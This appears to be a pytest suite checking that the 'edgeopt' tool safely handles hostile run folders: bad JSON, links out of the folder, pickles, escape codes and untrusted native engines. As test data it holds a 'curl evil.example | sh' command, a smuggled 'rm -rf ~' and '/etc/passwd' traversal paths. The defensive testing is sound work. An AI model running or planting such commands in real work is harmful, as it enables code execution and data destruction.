"""Run folders from a stranger: whatever is in them, a verb ends rightly or with an EdgeoptError, inside the run."""

from __future__ import annotations

import contextlib
import importlib
import itertools
import json
import os
import pickle
import shutil
import subprocess
import sys
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import hostile
import numpy as np
import onnx
import pytest
from onnx import TensorProto, numpy_helper
from PIL import Image
from planted import SEARCH, plant
from small_run import FLOAT, INT8, SPEC, write_small_run

from edgeopt import environment, records
from edgeopt.backends.base import Backend
from edgeopt.backends.onnxruntime import OnnxRuntimeBackend
from edgeopt.bench import EngineSpec
from edgeopt.console import Silent
from edgeopt.errors import BackendError, ModelError, RunError
from edgeopt.files import read_json, read_npy, sha256, write_atomically, write_json
from edgeopt.models import create
from edgeopt.registry import BACKENDS
from edgeopt.run import Run
from edgeopt.sets import open_set
from edgeopt.stages.bench import bench
from edgeopt.stages.engines import engines, left_out, pick_engine
from edgeopt.stages.half_made import BatchSizeRecord, LatencySearchRecord, PruneStepRecord
from edgeopt.stages.predict import predict
from edgeopt.stages.variants import commit_variant, open_variant

SETS = f"data/sets/{SPEC.key}"


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A whole run, to be copied and never changed."""
    run = write_small_run(tmp_path_factory.mktemp("whole") / "run")
    plant(run)
    return run.path


@pytest.fixture(scope="module")
def picture(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("picture") / "new.png"
    Image.new("RGB", (20, 20)).save(path)
    return path


@pytest.fixture
def run(whole: Path, tmp_path: Path) -> Path:
    """A copy to make hostile."""
    return hostile.copied(whole, tmp_path / "run")


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[Path]:
    """A folder that no verb may change or read."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "precious.json").write_text('{"schema": 1}')
    before = {path: path.read_bytes() for path in folder.iterdir()}
    yield folder
    assert {path: path.read_bytes() for path in folder.iterdir()} == before


def edit(path: Path, **changes: Any) -> None:
    write_json(path, {**json.loads(path.read_text()), **changes})


# -- every field -------------------------------------------------------------------------------------------------------


def test_a_whole_run_is_read_by_every_verb(run: Path, picture: Path) -> None:
    for verb in ("show", "report", "measure", "eval", "predict", "build", "bench", "candidates", "rm"):
        assert hostile.outcome(verb, run, picture) == "done", verb


@pytest.mark.parametrize("name", hostile.RECORDS)
def test_every_field_of_a_record_may_hold_anything(name: str, whole: Path, run: Path, picture: Path) -> None:
    """Each field gets one of the values, by one of the verbs; the slow test gives every field all of them."""
    pairs = list(itertools.product(hostile.VALUES, hostile.RECORDS[name]))

    def chosen(path: tuple[str | int, ...], value: str, verb: str) -> bool:
        return pairs[zlib.crc32(str(path).encode()) % len(pairs)] == (value, verb)

    _plant(name, whole, run, picture, every=chosen)


@pytest.mark.slow
@pytest.mark.parametrize("name", hostile.RECORDS)
def test_every_field_of_a_record_may_hold_every_hostile_value(name: str, whole: Path, run: Path, picture: Path) -> None:
    """Each by one of the verbs, which the field and the value choose."""
    verbs = hostile.RECORDS[name]

    def chosen(path: tuple[str | int, ...], value: str, verb: str) -> bool:
        return verbs[zlib.crc32(f"{path}{value}".encode()) % len(verbs)] == verb

    _plant(name, whole, run, picture, every=chosen)


def _plant(name: str, whole: Path, run: Path, picture: Path, *, every: Any) -> None:
    record = json.loads((whole / name).read_text())
    tried = 0
    for path in hostile.fields(record):
        for value in hostile.VALUES:
            for verb in hostile.RECORDS[name]:
                if not every(path, value, verb):
                    continue
                hostile.dump(run / name, hostile.planted(record, path, hostile.VALUES[value]))
                try:
                    hostile.outcome(verb, run, picture)
                except Exception as error:
                    error.add_note(f"{verb} of {name} with {path} = {value}")
                    raise
                tried += 1
                if verb in hostile.CHANGING:
                    hostile.copied(whole, run)
    assert tried >= 5


@pytest.mark.parametrize(
    "content", [b"", b"{", b"[]", b"null", b"\xff\xfe", b"[" * 100_000, b'{"a":' * 5000, b"\0" * 99]
)
@pytest.mark.parametrize("name", [*hostile.RECORDS, "data/labels.txt"])
def test_a_record_that_is_no_json_is_an_error_or_left_out(name: str, content: bytes, run: Path, picture: Path) -> None:
    (run / name).write_bytes(content)
    for verb in hostile.RECORDS.get(name, ("predict", "measure", "report")):
        hostile.outcome(verb, run, picture)


@pytest.mark.parametrize("name", ["run.json", f"{hostile.INT8}/accuracy.json", "data/split.json"])
def test_a_record_as_large_as_the_memory_is_refused_unread(name: str, run: Path, picture: Path) -> None:
    with (run / name).open("r+b") as handle:
        handle.truncate(300 * 2**20)  # sparse: it takes no room
    assert "larger than any" in hostile.outcome("report", run, picture)


def test_brackets_alone_do_not_fill_the_memory(run: Path) -> None:
    (run / "run.json").write_text('{"a": [' + "[]," * 1_000_000 + "1]}")
    with pytest.raises(RunError, match="more lists than any record"):
        Run.open(run)


_ACTS = [["block", "drop"], ["attn", "heads", [0]]]
_HALF_MADE: dict[str, tuple[type[records.Record], dict[str, Any]]] = {
    "batch_size.json": (BatchSizeRecord, {"size": 16}),
    "lr_range.json": (records.LrRangeRecord, {"lr": 0.1, "rates": [0.01, 0.1], "smoothed": [2.0, 1.0]}),
    "step.json": (
        PruneStepRecord,
        {"steps": 1, "history": [["conv1", True, [0, 1]]], "reasons": {"fc": "classifier"}, "metrics": {}},
    ),
    "latency_search.json": (
        LatencySearchRecord,
        {**SEARCH, "untouched": {"fc": "classifier"}, "chosen": {**SEARCH["chosen"], "history": _ACTS}},
    ),
}


@pytest.mark.parametrize("name", _HALF_MADE)
def test_what_a_half_made_stage_goes_on_with_is_checked_first(name: str, tmp_path: Path) -> None:
    """An edited one is a line that names it, not a traceback in the middle of the command that resumes."""
    kind, fields = _HALF_MADE[name]
    record, path = {"schema": 1, **fields}, tmp_path / name
    write_json(path, record)
    assert records.read(kind, path) == record
    for at in hostile.fields(record):
        hostile.dump(path, hostile.planted(record, at, hostile.MISSING))
        if len(at) == 1 or at == ("chosen", "history"):
            with pytest.raises(RunError, match=name):
                records.read(kind, path)
        for value in hostile.VALUES.values():
            hostile.dump(path, hostile.planted(record, at, value))
            with contextlib.suppress(RunError):
                records.read(kind, path)


# -- schemas -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("schema", "said", "fix"),
    [
        (2, "has schema 2; this edgeopt reads schema 1", "pip install --upgrade edgeopt"),
        (0, "has schema 0, which no edgeopt ever wrote", "get the folder again"),
        (True, "has schema True, which no", "get the folder again"),
        ("1", "has schema '1', which no", "get the folder again"),
    ],
)
@pytest.mark.parametrize("name", ["run.json", "host/float/stage.json", f"{SETS}/test.json"])
def test_a_newer_and_an_older_schema_say_what_reads_them(
    name: str, schema: object, said: str, fix: str, run: Path, picture: Path
) -> None:
    edit(run / name, schema=schema)
    heard = hostile.outcome("measure", run, picture)
    assert said in heard
    assert fix in heard or name == "host/float/stage.json"


def test_an_older_schema_names_the_edgeopt_that_reads_it(run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(records, "OLDER_SCHEMAS", {0: "<0.2"})
    edit(run / "run.json", schema=0)
    with pytest.raises(RunError, match=r'pip install "edgeopt<0\.2"'):
        Run.open(run)


# -- one damaged engine ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("content", ["{", '{"schema": 1}', '{"schema": 7}'])
def test_a_damaged_build_is_named_and_the_others_work(content: str, run: Path, picture: Path) -> None:
    (run / "device" / INT8 / "build.json").write_text(content)
    opened = Run.open(run)
    assert list(engines(opened)) == [FLOAT]
    assert INT8 in left_out(opened)
    assert pick_engine(opened, None).key == FLOAT
    for verb in ("show", "report", "predict"):
        assert hostile.outcome(verb, run, picture) == "done"
    assert "build.json" in json.loads((run / "report/report.json").read_text())["engines"][-1]["reason"]
    with pytest.raises(RunError, match=r"int8-u8a7w/build\.json"):
        pick_engine(opened, INT8)


def test_a_build_for_an_impossible_target_is_left_out(run: Path) -> None:
    edit(run / "device" / INT8 / "build.json", profile={"schema": 1, "title": "t"})
    assert "'profile.backend': field required" in left_out(Run.open(run))[INT8]


@pytest.mark.parametrize("broken", ["engine.onnx", "build.json"])
def test_an_engine_that_cannot_be_opened_does_not_stop_the_bench_of_others(
    broken: str, run: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = run / "device" / INT8 / broken
    if broken == "build.json":
        profile = json.loads(file.read_text())["profile"]
        edit(file, profile={**profile, "session": {"provider": "a\0b"}})
        (file.parent / "accuracy.json").unlink()
    else:
        file.write_bytes(b"x")
    timed: list[str] = []
    said: list[str] = []

    class Console(Silent):
        def say(self, text: str) -> None:
            said.append(text)

    def measure(specs: list[EngineSpec], **_: object) -> None:
        timed.extend(spec.key for spec in specs)
        raise BackendError("nothing is timed here", fix="none")

    monkeypatch.setattr("edgeopt.stages.bench.measure", measure)
    with hostile.without_torch(), pytest.raises(BackendError, match="nothing is timed"):
        bench(Run.open(run), console=Console())
    assert timed == [FLOAT]
    assert any(INT8 in line for line in said)


def test_when_no_engine_can_be_opened_bench_says_why(run: Path) -> None:
    for key in (FLOAT, INT8):
        (run / "device" / key / "engine.onnx").write_bytes(b"x")
    with hostile.without_torch(), pytest.raises(RunError, match=r"engine\.onnx was changed"):
        bench(Run.open(run))


def test_control_characters_of_a_record_do_not_reach_the_terminal(run: Path, picture: Path) -> None:
    file = run / "device" / INT8 / "build.json"
    profile = json.loads(file.read_text())["profile"]
    edit(file, profile={**profile, "session": {"provider": "\x1b[2Ja"}}, reason="\x1b[2Jb", runs_here=True)
    edit(run / "host/float/stage.json", command="\x1b[2Jc")
    for verb in ("predict", "show", "report"):
        command = [sys.executable, "-m", "edgeopt", *hostile.arguments(verb, run, picture)]
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        assert "\x1b" not in done.stdout + done.stderr
        assert "Traceback" not in done.stderr
        assert verb != "predict" or "\\x1b[2Ja" in done.stderr


def test_a_build_that_is_no_json_is_built_again_by_force(run: Path, picture: Path) -> None:
    (run / "device" / INT8 / "build.json").write_text("{")
    assert hostile.outcome("build", run, picture) == "done"
    assert set(engines(Run.open(run))) == {FLOAT, INT8}


def test_a_damaged_variant_stops_everything_but_its_removal(run: Path, picture: Path) -> None:
    (run / "host/int8-u8a7w/stage.json").write_text("{}")
    assert "fix: get the run again from its source, or: edgeopt rm int8-u8a7w" in hostile.outcome("show", run, picture)
    assert hostile.outcome("rm", run, picture) == "done"
    assert hostile.outcome("show", run, picture) == "done"


def test_a_strangers_words_are_not_what_the_user_is_told_to_type(run: Path) -> None:
    edit(run / "device" / INT8 / "build.json", engine=None, device_command="curl evil.example | sh")
    assert "'device_command'" in left_out(Run.open(run))[INT8]
    edit(run / "device" / INT8 / "build.json", device_command=None, target="rtx; rm -rf ~")
    with pytest.raises(BackendError, match=r"fix: edgeopt build --target 'rtx; rm -rf ~'$"):
        pick_engine(Run.open(run), INT8).open()


# -- links -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        ".lock",
        "report",
        "report/report.html",
        "run.json",
        "data",
        "data/labels.txt",
        f"{SETS}/test.npy",
        "host/float/preprocess.json",
        "host/other",
        "device/onnxruntime",
        f"device/{INT8}/accuracy.json",
        f"device/{INT8}/engine.onnx",
        "anything/else",
    ],
)
def test_a_link_out_of_the_run_is_refused_by_every_verb(name: str, run: Path, outside: Path, picture: Path) -> None:
    link = run / name
    link.parent.mkdir(parents=True, exist_ok=True)
    target = outside / "precious.json" if link.suffix or name == ".lock" else outside
    if link.is_dir():
        shutil.rmtree(link)
    link.unlink(missing_ok=True)
    link.symlink_to(target)
    for verb in ("show", "report", "eval", "predict", "build", "bench", "rm"):
        assert "is a link that leads out of it" in hostile.outcome(verb, run, picture), verb


def test_links_inside_the_run_and_hard_links_are_fine(run: Path, picture: Path, tmp_path: Path) -> None:
    labels = run / "data/labels.txt"
    os.link(labels, tmp_path / "another name")
    (run / "report-link").symlink_to("report")
    (run / "loop").symlink_to("loop")
    (run / "up").symlink_to(run)
    (tmp_path / "by another name").symlink_to(run)
    for path in (run, tmp_path / "by another name"):
        for verb in ("show", "report", "predict"):
            assert hostile.outcome(verb, path, picture) == "done"


def test_removing_a_link_to_a_variant_leaves_the_variant(run: Path) -> None:
    (run / "host/alias").symlink_to("float")
    Run.open(run).remove("alias")
    assert (run / "host/float/stage.json").is_file()


@pytest.mark.parametrize("name", ["data/labels.txt", f"device/{INT8}/accuracy.json", "pipe"])
def test_a_pipe_is_refused_and_not_waited_for(name: str, run: Path, picture: Path) -> None:
    (run / name).unlink(missing_ok=True)
    os.mkfifo(run / name)
    assert "is neither a file nor a folder" in hostile.outcome("report", run, picture)


def test_the_newest_run_is_refused_when_it_leads_out(run: Path, outside: Path) -> None:
    (run / ".lock").unlink()
    (run / ".lock").symlink_to(outside / "precious.json")
    with pytest.raises(RunError, match="leads out of it"):
        Run.latest(run.parent)


@pytest.mark.parametrize("path", ["../outside/precious.json", "/etc/passwd", "..", "a\0b", "host/../../x"])
def test_a_record_names_nothing_outside_the_run(path: str, run: Path, picture: Path, outside: Path) -> None:
    record = json.loads((run / "device" / INT8 / "build.json").read_text())
    with pytest.raises(RunError, match="outside the run folder"):
        Run.open(run).resolve(path)
    engine = {"path": path, "sha256": sha256(outside / "precious.json")}
    edit(run / "device" / INT8 / "build.json", outputs={**record["outputs"], "engine.onnx": engine})
    assert INT8 in left_out(Run.open(run))


@pytest.mark.parametrize("name", ["../../outside", "/etc", "a\0b", "openvino"])
def test_candidates_name_no_folder_but_their_targets(name: str, run: Path, picture: Path, outside: Path) -> None:
    """Their times would be written into a folder of that name."""
    file = run / "host/float/candidates-onnxruntime/candidates.json"
    edit(file, profile={**json.loads(file.read_text())["profile"], "name": name})
    assert "its profile is of another target" in hostile.outcome("candidates", run, picture)
    assert not (run / "device/openvino").exists()


# -- engines -----------------------------------------------------------------------------------------------------------


def test_which_engines_are_native_code() -> None:
    kinds = {name: _attribute(where).native_code for name, where in BACKENDS.items()}
    data = {"onnxruntime", "openvino", "pytorch"}
    assert kinds == {name: name not in data for name in BACKENDS}
    assert Backend.native_code, "what a plug-in does not say must be taken for code"


def _attribute(reference: str) -> Any:
    module, _, name = reference.partition(":")
    return getattr(importlib.import_module(module), name)


def test_an_engine_of_another_kind_of_machine_is_opened_only_when_trusted(run: Path, picture: Path) -> None:
    edit(run / "device" / INT8 / "build.json", machine="0" * 12)
    opened = Run.open(run)
    assert left_out(opened) == {INT8: "it was built on another kind of machine"}
    with pytest.raises(BackendError, match=r"edgeopt build --target onnxruntime; or, if you trust .* --trust-engine"):
        predict(opened, [str(picture)], engine=INT8)
    assert pick_engine(opened, None).key == FLOAT
    assert len(predict(opened, [str(picture)], engine=INT8, trust_engine=True)[0]) == 1
    assert pick_engine(opened, None, trust_engine=True).key == INT8


def test_native_code_of_another_host_is_opened_only_when_trusted(
    run: Path, picture: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The kind of machine in a record is no proof: a stranger can own the same. TensorRT itself cannot run here."""
    loaded: list[Path] = []
    monkeypatch.setattr(OnnxRuntimeBackend, "native_code", True)
    real = OnnxRuntimeBackend._open
    monkeypatch.setattr(
        OnnxRuntimeBackend, "_open", lambda self, engine, *rest: (loaded.append(engine), real(self, engine, *rest))[1]
    )
    assert len(predict(Run.open(run), [str(picture)], engine=INT8)[0]) == 1  # built here
    loaded.clear()
    for host in ("0" * 12, None):
        edit(run / "device" / INT8 / "build.json", host=host, machine=environment.machine_id())
        with pytest.raises(BackendError, match="native code\n  fix: edgeopt build --target onnxruntime --force; or"):
            predict(Run.open(run), [str(picture)], engine=INT8)
    assert not loaded
    assert len(predict(Run.open(run), [str(picture)], engine=INT8, trust_engine=True)[0]) == 1
    assert loaded


def test_code_a_run_names_is_run_only_where_the_run_was_made(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "strangers_net.py").write_text(
        "from pathlib import Path\n"
        "from torch.nn import AdaptiveAvgPool2d, Conv2d, Flatten, Linear, Sequential\n"
        "Path('it-ran').touch()\n"
        "def build(num_classes):\n"
        "    return Sequential(Conv2d(3, 4, 3), AdaptiveAvgPool2d(1), Flatten(), Linear(4, num_classes))\n"
    )
    monkeypatch.chdir(tmp_path)
    created = create("strangers_net:build", num_classes=3, image_size=16)
    made = Run.create(tmp_path / "run", data_root="photos", data={}, fingerprint="a" * 64)
    with made.lock():
        stage = made.stage("host", "float", record="stage.json", key="b" * 64)
        told: dict[str, Any] = {"config": {}, "origin": {}, "inputs": {}, "metrics": {}}
        commit_variant(stage, created.model, created.architecture, SPEC, parent=None, stage_name="finetune", **told)
    (tmp_path / "it-ran").unlink()
    del sys.modules["strangers_net"]
    edit(made.path / "run.json", host="0" * 12)
    with pytest.raises(ModelError, match="strangers_net:build is Python code outside edgeopt"):
        open_variant(Run.open(made.path), "float").load()
    assert not (tmp_path / "it-ran").exists()
    edit(made.path / "run.json", host=environment.host_id())
    open_variant(Run.open(made.path), "float").load()
    assert (tmp_path / "it-ran").exists()


def test_data_of_another_host_but_the_same_kind_of_machine_is_opened(run: Path, picture: Path) -> None:
    edit(run / "device" / INT8 / "build.json", host="0" * 12)
    assert len(predict(Run.open(run), [str(picture)], engine=INT8)[0]) == 1


@pytest.mark.parametrize("verb", ["predict", "eval", "bench"])
def test_verbs_take_trust_engine(verb: str, run: Path, picture: Path) -> None:
    for key in (FLOAT, INT8):
        edit(run / "device" / key / "build.json", machine="0" * 12)
    (run / "device" / INT8 / "accuracy.json").unlink()
    assert "no engine that runs on this machine" in hostile.outcome(verb, run, picture)
    assert hostile.outcome(verb, run, picture, "--trust-engine") == "done"


def test_an_engine_of_a_backend_that_is_not_here_is_left_out(run: Path) -> None:
    edit(run / "device" / INT8 / "build.json", backend="another")
    assert left_out(Run.open(run)) == {INT8: "its backend another is not installed here"}


@pytest.mark.parametrize("where", ["export", "engine"])
def test_external_data_is_refused_before_a_runtime_sees_it(
    where: str, run: Path, outside: Path, picture: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def forbidden(*_: object, **__: object) -> None:
        raise AssertionError("the runtime was asked to load it")

    for module in ("onnxruntime", "onnxruntime_audit"):
        monkeypatch.setattr(f"edgeopt.backends.{module}.load", forbidden)
    folder, record = {
        "export": (run / "host/int8-u8a7w/export", "parity.json"),
        "engine": (run / "device" / INT8, "build.json"),
    }[where]
    file = folder / ("model.onnx" if where == "export" else "engine.onnx")
    model = onnx.load(str(file))
    tensor = numpy_helper.from_array(np.zeros(3, np.float32), "outside")
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value="../../../../outside/precious.json")
    model.graph.initializer.append(tensor)
    file.write_bytes(model.SerializeToString())
    outputs = json.loads((folder / record).read_text())["outputs"]
    for entry in outputs.values():
        entry["sha256"] = sha256(run / entry["path"])
    edit(folder / record, outputs=outputs)
    if where == "export":  # the float engine beside it is built first, and is sound
        shutil.copytree(run / "host/int8-u8a7w/export", run / "host/float/export", dirs_exist_ok=True)
        (run / "host/float/export/parity.json").write_text(
            (folder / record).read_text().replace("host/int8-u8a7w", "host/float")
        )
    heard = hostile.outcome("build" if where == "export" else "predict", run, picture)
    assert 'keeps the tensor "outside" in another file, which edgeopt refuses' in heard


def test_a_companion_of_an_engine_is_checked_too(run: Path) -> None:
    """OpenVINO keeps weights in a file beside the graph."""
    folder = run / "device" / INT8
    (folder / "engine.bin").write_bytes(b"weights")
    outputs = json.loads((folder / "build.json").read_text())["outputs"]
    stated = {"path": f"device/{INT8}/engine.bin", "sha256": sha256(folder / "engine.bin")}
    edit(folder / "build.json", outputs={**outputs, "engine.bin": stated})
    assert pick_engine(Run.open(run), INT8).path.name == "engine.onnx"
    (folder / "engine.bin").write_bytes(b"Weights")
    with pytest.raises(RunError, match=r"engine\.bin was changed since"):
        _ = pick_engine(Run.open(run), INT8).path


def test_openvino_opens_nothing_but_its_ir(run: Path, picture: Path) -> None:
    """By its ending OpenVINO would take an ONNX file, and with it the files that one names."""
    pytest.importorskip("openvino")
    edit(run / "device" / INT8 / "build.json", backend="openvino")
    with pytest.raises(BackendError, match=r"engine\.onnx is not OpenVINO's IR"):
        predict(Run.open(run), [str(picture)], engine=INT8)


def test_preprocessing_that_was_edited_is_refused(run: Path, picture: Path) -> None:
    edit(run / "host/int8-u8a7w/preprocess.json", mean=[0, 0, 0])
    with pytest.raises(RunError, match=r"preprocess\.json was changed since"):
        predict(Run.open(run), [str(picture)], engine=INT8)


def test_weights_that_are_none_are_an_error(tmp_path: Path) -> None:
    """Where torch is, eval measures the original too; torch takes such a file for safetensors."""
    from edgeopt.models.weights import read_state

    for content in (b"weights that no device reads", b"", b"{}", b"\x80\x02" + b"x" * 50, b"PK\x03\x04" + b"0" * 50):
        (tmp_path / "model.safetensors").write_bytes(content)
        with pytest.raises(ModelError, match=r"not a complete|holds"):
            read_state(tmp_path / "model.safetensors")


# -- prepared sets and arrays ------------------------------------------------------------------------------------------


def test_a_sets_hashes_are_checked_before_use(run: Path) -> None:
    folder = run / SETS
    assert len(open_set(folder, "test")) == 20
    content = bytearray((folder / "test.npy").read_bytes())
    content[-1] ^= 1
    (folder / "test.npy").write_bytes(content)
    with pytest.raises(RunError, match=r"test\.npy was changed since"):
        open_set(folder, "test")
    assert len(open_set(folder, "test", checked=True)) == 20


class Exploding:
    """Unpickled, it would say so."""

    def __reduce__(self) -> Any:
        return (pytest.fail, ("a pickle was loaded",))


def test_a_pickle_is_never_loaded(run: Path) -> None:
    folder = run / SETS
    array = np.empty(20, dtype=object)
    array[:] = [Exploding()] * 20
    np.save(folder / "test.labels.npy", array, allow_pickle=True)
    with pytest.raises(RunError, match=r"it holds '\|O'"):
        read_npy(folder / "test.labels.npy", "<i8")
    (folder / "test.labels.npy").write_bytes(pickle.dumps(Exploding()))
    with pytest.raises(RunError, match=r"not a \.npy file"):
        read_npy(folder / "test.labels.npy", "<i8")


@pytest.mark.parametrize(
    ("shape", "said"),
    [
        ("(20, 16, 16, 3000000000)", "does not fit its"),
        ("(101,)", "does not fit its"),
        ("(99,)", "does not fit its"),
        ("(20000000000000000000,)", "no shape"),
        ("(-1,)", "no shape"),
        ("(1e3,)", "no shape"),
        ("(True,)", "no shape"),
        ("[20]", "damaged"),
        ("(" * 500, "damaged"),
        ("1,", "damaged"),
    ],
)
@pytest.mark.parametrize("mapped", [True, False])
def test_a_declared_shape_is_held_against_the_files_size(shape: str, said: str, mapped: bool, tmp_path: Path) -> None:
    header = f"{{'descr': '|u1', 'fortran_order': False, 'shape': {shape}, }}".encode()
    (tmp_path / "a.npy").write_bytes(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + bytes(100))
    with pytest.raises(RunError, match=said):
        read_npy(tmp_path / "a.npy", "|u1", mapped=mapped)


@pytest.mark.parametrize("version", [(1, 0), (2, 0), (3, 0)])
@pytest.mark.parametrize("mapped", [True, False])
def test_arrays_are_read_as_numpy_wrote_them(version: tuple[int, int], mapped: bool, tmp_path: Path) -> None:
    array = np.arange(24, dtype=np.float32).reshape(2, 3, 4)
    with (tmp_path / "a.npy").open("wb") as handle:
        np.lib.format.write_array(handle, array, version=version)
    np.testing.assert_array_equal(read_npy(tmp_path / "a.npy", "<f4", mapped=mapped), array)
    np.save(tmp_path / "none.npy", np.empty((0, 4), np.float32))
    assert read_npy(tmp_path / "none.npy", "<f4", mapped=mapped).shape == (0, 4)


@pytest.mark.parametrize(("label", "said"), [(-1, "do not fit"), (5, "labels beyond the engine's 5 classes")])
def test_labels_beyond_the_classes_are_an_error(label: int, said: str, run: Path, picture: Path) -> None:
    folder = run / SETS
    np.save(folder / "test.labels.npy", np.full(20, label))
    stated = json.loads((folder / "test.json").read_text())["sha256"]
    edit(folder / "test.json", sha256={**stated, "test.labels.npy": sha256(folder / "test.labels.npy")})
    assert said in hostile.outcome("measure", run, picture)


def test_class_names_are_bounded_text(run: Path, picture: Path) -> None:
    for content in (b"\xff", b"a\x1b[2J\n" * 5, "a\u2028b\n".encode() * 5, b"a\r\n" * 5):
        (run / "data/labels.txt").write_bytes(content)
        assert "labels.txt" in hostile.outcome("predict", run, picture)
    names = "کتاب\u200cها\nnew york\n図\u3000鑑\nµ\n–\n"  # a joiner and a wide space are no control characters
    (run / "data/labels.txt").write_text(names, encoding="utf-8")
    assert hostile.outcome("predict", run, picture) == "done"


@pytest.mark.parametrize(
    "text",
    [
        '{"a": NaN}',
        '{"a": -Infinity}',
        '{"a": 1e400}',
        '{"a": "\\ud800"}',
        '{"a": ' + "9" * 5000 + "}",
        '{"a": ' + "[" * 500 + "]" * 500 + "}",
        "[1]",
    ],
)
def test_json_that_could_not_be_written_again_is_not_read(text: str, tmp_path: Path) -> None:
    (tmp_path / "a.json").write_text(text)
    with pytest.raises(RunError):
        read_json(tmp_path / "a.json")


def test_a_temporary_file_has_a_name_that_cannot_be_planted(tmp_path: Path) -> None:
    """A link that waited under the name would be written through."""
    names: list[str] = []

    def write(path: Path) -> None:
        names.append(path.name)
        path.write_text("x")

    for _ in range(2):
        write_atomically(tmp_path / "a.json", write)
    assert len(set(names)) == 2
    assert all(len(name) > 20 and str(os.getpid()) not in name.replace(".", " ").split() for name in names)
    assert [path.name for path in tmp_path.iterdir()] == ["a.json"]


# -- nothing leaves the run --------------------------------------------------------------------------------------------


def test_nothing_is_written_read_or_run_outside(whole: Path, picture: Path, tmp_path: Path) -> None:
    """In a process of its own, under an audit hook: some fields of every record, with paths that lead out."""
    canary = tmp_path / "canary"
    canary.mkdir()
    (canary / "secret.json").write_text('{"schema": 1}')
    (canary / "secret.py").write_text("raise SystemExit('a module from data was imported')")
    (tmp_path / "scratch").mkdir()
    tests = Path(__file__).parent
    command = [sys.executable, str(tests / "hostile_child.py")]
    paths = [str(path) for path in (whole, tmp_path / "scratch", canary, picture)]
    found = subprocess.run([*command, *paths, "29"], capture_output=True, text=True, check=False, cwd=tests)
    assert found.returncode == 0, found.stderr[-3000:]
    said = json.loads(found.stdout.splitlines()[-1])
    assert said["cases"] > 150
    assert said["written"] == []
    assert said["canary"] == []
    assert said["executed"] == []
    assert set(said["started"]) <= {"uname", "nvidia-smi"}  # of edgeopt.environment, which knows the machine
    assert said["peak_mib"] < 600


def test_the_audit_sees_what_it_is_there_for(tmp_path: Path) -> None:
    """The hook of the test above notes a write, a read of the canary, an import from data and a started program."""
    (tmp_path / "run").mkdir()
    (tmp_path / "canary").mkdir()
    (tmp_path / "canary/secret.py").write_text("x = 1")
    program = f"""
import json, os, subprocess, sys, tempfile
sys.path.insert(0, {str(Path(__file__).parent)!r})
from pathlib import Path
here = Path({str(tmp_path)!r})
tempfile.tempdir = str(here / "temporary")
from hostile_child import Watch
watch = Watch(here / "run", here / "canary")
sys.addaudithook(watch)
watch.on = True
(here / "run/fine.txt").write_text("x")
(here / "elsewhere.txt").write_text("x")
(here / "elsewhere.txt").rename(here / "moved.txt")
sys.path.insert(0, str(here / "canary"))
import secret
subprocess.run(["true"])
watch.on = False
print(json.dumps({{kind: sorted(map(os.path.basename, found)) for kind, found in watch.notes.items()}}))
"""
    done = subprocess.run(
        [sys.executable, "-B", "-c", program], capture_output=True, text=True, check=False, cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    said = json.loads(done.stdout)
    assert said["written"] == ["elsewhere.txt", "moved.txt"]
    assert "secret.py" in said["canary"]
    assert said["executed"] == ["secret.py"]
    assert said["started"] == ["true"]


def test_reading_records_is_fast(whole: Path, run: Path) -> None:
    """A run with a hundred engines is read in the blink of an eye: about a millisecond a record."""
    source = whole / "device" / INT8
    for number in range(100):
        shutil.copytree(source, run / "device/many" / f"int8-{number}")
    opened = Run.open(run)
    opened.engines()
    began = time.process_time()
    assert len(opened.engines()) == 102
    assert time.process_time() - began < 1.0
